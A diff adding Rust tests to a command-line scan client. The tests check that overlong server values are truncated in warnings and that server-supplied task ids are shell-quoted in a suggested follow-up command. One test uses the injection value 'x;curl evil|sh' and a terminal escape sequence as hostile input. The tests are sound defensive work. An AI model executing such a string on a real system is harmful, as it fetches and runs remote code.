@@ -65,6 +65,28 @@ fn bc_33_null_is_nothing() {
 }
 
 #[test]
+fn a_long_value_that_is_not_known_is_cut_in_the_warning() {
+    let host = json!({"host_name": "a", "scan_status": "x".repeat(1_000_000)});
+    let ran = hosts_of(&json!({"total_num": 1, "data_list": [host]}), &["-o", "json"]);
+    assert!(ran.stderr.len() < 300 && ran.stderr.contains("xxx…\""), "{} bytes", ran.stderr.len());
+}
+
+#[test]
+fn a_command_to_paste_runs_nothing_that_a_server_named() {
+    let id = "x;curl evil|sh";
+    let server = Canned::new([canned::json(200, &json!({"task_id": id}).to_string())]);
+    let started = run(&mut hss_at(&server.url, &["scan", "start", "--all-hosts"]));
+    assert_eq!(started.printed(), "x;curl evil|sh\n");
+    assert_eq!(started.stderr, "started; follow it with: hss scan wait 'x;curl evil|sh'\n");
+    let server = Canned::new([canned::json(200, &json!({"task_id": "--html=\u{1b}[2J"}).to_string())]);
+    let started = run(&mut hss_at(&server.url, &["scan", "start", "--all-hosts"]));
+    assert_eq!(started.stderr, "started; follow it with: hss scan wait -- $'--html=\\033[2J'\n");
+    // What is printed is what a command takes.
+    let server = Canned::new([canned::json(200, r#"{"total_num":1,"data_list":[{"id":"-x","status":"finished"}]}"#)]);
+    run(&mut hss_at(&server.url, &["scan", "wait", "--", "-x"])).printed();
+}
+
+#[test]
 fn a_name_that_is_not_unicode_does_not_fail_its_page() {
     let body = r#"{"total_num":2,"data_list":[{"host_name":"a\ud800"},{"host_name":"b"}]}"#;
     let server = Canned::new([canned::json(200, body)]);
